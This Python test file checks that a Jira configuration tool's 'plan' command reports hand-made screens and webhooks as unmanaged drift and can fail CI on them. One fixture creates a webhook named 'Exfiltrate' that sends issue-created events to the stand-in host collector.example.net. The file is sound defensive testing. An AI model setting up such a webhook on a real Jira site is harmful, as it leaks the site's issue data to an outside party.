"""Drift made by hand on the site is named by ``plan`` in every format, and CI can fail on it."""

from __future__ import annotations

import json

from tests.e2e.conftest import Jiracfg
from tests.e2e.test_edits import jira

HAND_MADE = ["screen/Hand Screen", "webhook/Exfiltrate"]


def make_by_hand(run: Jiracfg) -> None:
    with jira(run) as http:
        http.post("/screens", json={"name": "Hand Screen"}).raise_for_status()
        http.post(
            run.server.url + "/rest/webhooks/1.0/webhook",
            json={
                "name": "Exfiltrate",
                "url": "https://collector.example.net/jira",
                "events": ["jira:issue_created"],
            },
        ).raise_for_status()


def test_plan_names_every_unmanaged_object_in_every_format(exported_demo: Jiracfg) -> None:
    make_by_hand(exported_demo)
    text = exported_demo("plan").output
    markdown = exported_demo("plan", "--format", "markdown").output
    data = json.loads(exported_demo("plan", "--format", "json").output)
    assert data["unmanaged"] == HAND_MADE
    for address in HAND_MADE:
        assert address in text, text
        assert f"`{address}`" in markdown, markdown


def test_ci_fails_on_unmanaged_objects_unless_ignored(exported_demo: Jiracfg) -> None:
    exported_demo("plan", "--detailed-exitcode", "--fail-on-unmanaged")
    make_by_hand(exported_demo)
    exported_demo("plan", "--detailed-exitcode")
    result = exported_demo("plan", "--detailed-exitcode", "--fail-on-unmanaged", expect=2)
    assert "webhook/Exfiltrate" in result.output
    (exported_demo.repo / "jiracfg.yaml").write_text(
        "unmanaged:\n  ignore: ['screen/Hand *']\n", encoding="utf-8"
    )
    result = exported_demo("plan", "--fail-on-unmanaged", expect=2)
    assert "webhook/Exfiltrate" in result.output and "screen/Hand Screen" not in result.output
    assert "1 ignored" in result.output
    (exported_demo.repo / "jiracfg.yaml").write_text(
        "unmanaged:\n  ignore: ['screen/Hand *', 'webhook/Exfiltrate']\n", encoding="utf-8"
    )
    exported_demo("plan", "--detailed-exitcode", "--fail-on-unmanaged")


def test_a_kind_the_repo_does_not_hold_is_still_watched(exported_demo: Jiracfg) -> None:
    """A site without webhooks exports no webhooks folder; one made later is named all the same
    (and a missing folder still never deletes anything)."""
    for path in (exported_demo.repo / "webhooks").iterdir():
        path.unlink()
    (exported_demo.repo / "webhooks").rmdir()
    make_by_hand(exported_demo)
    data = json.loads(exported_demo("plan", "--format", "json", "--prune").output)
    assert "webhook/Exfiltrate" in data["unmanaged"] and "webhook/Deploy bot" in data["unmanaged"]
    assert [c["address"] for c in data["changes"]] == ["screen/Hand Screen"]  # pruned: a kind held
    exported_demo("plan", "--fail-on-unmanaged", expect=2)
